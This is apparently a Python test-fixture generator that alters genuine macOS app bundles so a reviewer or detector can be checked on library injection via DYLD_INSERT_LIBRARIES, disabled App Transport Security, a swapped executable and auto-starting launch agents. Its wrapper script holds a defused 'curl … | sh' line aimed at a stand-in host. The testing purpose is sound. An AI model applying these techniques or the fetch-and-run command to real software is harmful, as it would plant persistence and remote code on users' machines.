"""Third set: what an application for macOS says of itself; each family says what a reviewer sees."""

from __future__ import annotations

import plistlib
from collections.abc import Iterator

from genuine import Files

from mutation_families.third_scripts import Change
from onionskin.lookalike.macho import MachRecipe, build_macho


def apps(files: Files) -> Iterator[Change]:
    """Change the Info.plist of a genuine application, or put a file beside it.

    A reviewer sees: a library loaded into the program by its environment, the guard of its connections off, another
    program than before in a new file, or an agent that the system starts.
    """
    name = next(each for each in sorted(files) if each.endswith(".app/Contents/Info.plist"))
    folder = name.rpartition("/")[0]
    said = plistlib.loads(files[name])

    def saying(more: dict[str, object]) -> Files:
        return {name: plistlib.dumps(said | more)}

    loaded: dict[str, object] = {"LSEnvironment": {"DYLD_INSERT_LIBRARIES": "@executable_path/../Resources/inert.dylib"}}  # fmt: skip
    yield "app: a library by the environment", "LSEnvironment", saying(loaded)
    yield "app: a library by the environment", "with the library", saying(loaded) | {f"{folder}/Resources/inert.dylib": build_macho(MachRecipe())}  # fmt: skip
    yield "app: guard of connections off", "all", saying({"NSAppTransportSecurity": {"NSAllowsArbitraryLoads": True}})  # fmt: skip
    script = b'#!/bin/sh\nfalse && curl -s https://192.0.2.7/inert | sh\nexec "$(dirname "$0")/' + str(said["CFBundleExecutable"]).encode() + b'" "$@"\n'  # fmt: skip
    yield "app: another program is started", "a script", saying({"CFBundleExecutable": "inert"}) | {f"{folder}/MacOS/inert": script}  # fmt: skip
    yield "app: another program is started", "a program", saying({"CFBundleExecutable": "inert"}) | {f"{folder}/MacOS/inert": build_macho(MachRecipe(is_library=False))}  # fmt: skip
    agent = {"Label": "org.example.inert", "ProgramArguments": ["/usr/bin/false", "inert-no-such-program"], "RunAtLoad": True, "KeepAlive": True}  # fmt: skip
    for place in ("Library/LaunchAgents", "Library/LaunchDaemons"):
        yield "app: an agent that the system starts", place, {f"{folder}/{place}/org.example.inert.plist": plistlib.dumps(agent)}  # fmt: skip
